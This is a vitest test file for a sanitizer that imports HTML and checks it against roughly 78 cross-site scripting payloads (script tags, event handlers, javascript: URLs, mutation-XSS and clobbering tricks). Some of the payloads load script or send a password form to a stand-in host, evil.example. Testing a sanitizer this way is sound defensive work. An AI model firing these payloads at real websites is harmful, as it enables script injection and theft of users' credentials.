import { describe, expect, test } from "vitest";
import { RICH_TEXT_ATTRIBUTES, RICH_TEXT_HEADING_ID, RICH_TEXT_TAGS } from "../../../contract/rich-text";
import { bodyFromHtml, plainFromHtml } from "../../../gateway/core/text/html-body";

/** Known ways to run script or to reach outside of a body: OWASP's cheat sheet, mutation XSS, clobbering, tabnabbing. */
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\\x20>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<img src=`javascript:alert(1)`>",
  "<img/src='x'/onerror=alert(1)>",
  "<img src=x:x onerror\n=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<math href='javascript:alert(1)'>x</math>",
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href='java&#10;script:alert(1)'>x</a>",
  "<a href='&#x6A;avascript:alert(1)'>x</a>",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='file:///etc/passwd'>x</a>",
  "<a href='//evil.example'>x</a>",
  "<a href='/relative'>x</a>",
  "<a href='mailto:a@b.c'>x</a>",
  "<a href='https://a.example' onclick=alert(1)>x</a>",
  "<a href='https://a.example' target=_blank rel=opener>x</a>",
  "<a href='https://a.example' style='position:fixed;inset:0'>x</a>",
  '<a name="getElementById">x</a>',
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='javascript:alert(1)'></object>",
  "<embed src='data:text/html,x'>",
  "<applet code=x></applet>",
  "<base href='//evil.example/'>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href='//evil.example/x.css'>",
  "<style>@import '//evil.example/x.css';</style>",
  "<style>body{background:url(javascript:alert(1))}</style>",
  "<p style='background:url(javascript:alert(1))'>x</p>",
  "<p style='width:expression(alert(1))'>x</p>",
  "<p class=x id=location>x</p>",
  "<form action='//evil.example'><input name=password><button formaction=javascript:alert(1)>x</button></form>",
  "<input autofocus onfocus=alert(1)>",
  "<textarea><script>alert(1)</script></textarea>",
  "<select><option><script>alert(1)</script></option></select>",
  "<isindex action=javascript:alert(1)>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<keygen autofocus onfocus=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<template><script>alert(1)</script></template>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  "<plaintext><script>alert(1)</script>",
  "<noembed><img src=x onerror=alert(1)></noembed>",
  "<h2 id='section-1\" onmouseover=\"alert(1)'>x</h2>",
  "<h2 id='__proto__'>x</h2>",
  "<td colspan='99999999' onclick=alert(1)>x</td>",
  "<table background='javascript:alert(1)'><tr><td background='javascript:alert(1)'>x</td></tr></table>",
  "<p onmouseover=alert(1)//>x</p>",
  "<p/onclick=alert(1)>x",
  '"><script>alert(1)</script>',
  "<<script>alert(1);//<</script>",
  "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
  "<custom-element onclick=alert(1)>x</custom-element>",
  "<portal src='https://evil.example'></portal>",
  "<frameset onload=alert(1)></frameset>",
] as const;

const allowed = new Set<string>(RICH_TEXT_TAGS);

function checkSafe(html: string): void {
  for (const [, name = "", attributes = ""] of html.matchAll(/<\/?([a-zA-Z][^\s/>]*)([^>]*)>/g)) {
    expect(allowed, html).toContain(name);
    for (const [, attribute = "", value = ""] of attributes.matchAll(/([^\s=/"]+)="([^"]*)"/g)) {
      expect(RICH_TEXT_ATTRIBUTES[name] ?? [], html).toContain(attribute);
      if (attribute === "href") expect(value).toMatch(/^https?:\/\//i);
      if (attribute === "rel") expect(value).toBe("noopener noreferrer nofollow");
      if (attribute === "id") expect(value).toMatch(RICH_TEXT_HEADING_ID);
      if (attribute.endsWith("span")) expect(value).toMatch(/^\d{1,2}$/);
    }
  }
  expect(html).not.toMatch(/<(?![a-zA-Z/])/);
}

describe("导入的 HTML", () => {
  test("攻击样本至少 60 个", () => {
    expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(60);
  });

  test.each(PAYLOADS)("%s 消毒后只剩允许的标签和属性", (payload) => {
    for (const html of [payload, `<p>前文</p>${payload}<p>后文</p>`, `<table><tr><td>${payload}</td></tr></table>`]) {
      checkSafe(bodyFromHtml(html).html);
    }
  });

  test.each(PAYLOADS)("%s 消毒两次与一次相同", (payload) => {
    const once = bodyFromHtml(`<p>甲</p>${payload}`).html;
    expect(bodyFromHtml(once).html).toBe(once);
  });

  test("外链只留 http 和 https，并加上 rel", () => {
    expect(bodyFromHtml("<p><a href='https://www.gov.cn/a?b=1&c=2' target=_blank>网址</a></p>").html).toBe(
      '<p><a href="https://www.gov.cn/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">网址</a></p>',
    );
  });

  test("标题重新编号，一级标题降为二级", () => {
    const { headings, html } = bodyFromHtml("<h1 id=x>总 则</h1><p>甲</p><h3 id=section-9>范围</h3>");
    expect(headings).toEqual([
      { id: "section-1", level: 2, text: "总则" },
      { id: "section-2", level: 3, text: "范围" },
    ]);
    expect(html).toContain('<h2 id="section-1">');
  });

  test("纯文本里段落各占一行，脚本的内容不算文字", () => {
    expect(
      bodyFromHtml(
        "<div>甲 &lt;乙&gt;</div><div>丙</div><script>丁</script><table><tr><td>1</td><td>2</td></tr></table>",
      ).plain,
    ).toBe("甲 <乙>\n丙\n1 2");
    expect(plainFromHtml("<p>a&amp;lt;b</p>")).toBe("a&lt;b");
  });

  // How fast belongs to the bench; that it ends is held by the test's own time limit.
  test.each([
    ["很深的嵌套", "<p><b>".repeat(20_000), ""],
    ["一串小于号", "<".repeat(100_000), "<".repeat(100_000)],
    ["一串和号", "&".repeat(100_000), "&".repeat(100_000)],
  ])("%s读得完，后面的文字还在", (_what, hostile, shown) => {
    expect(bodyFromHtml(`${hostile} 文字`).plain.trim()).toBe(`${shown} 文字`.trim());
  });
});
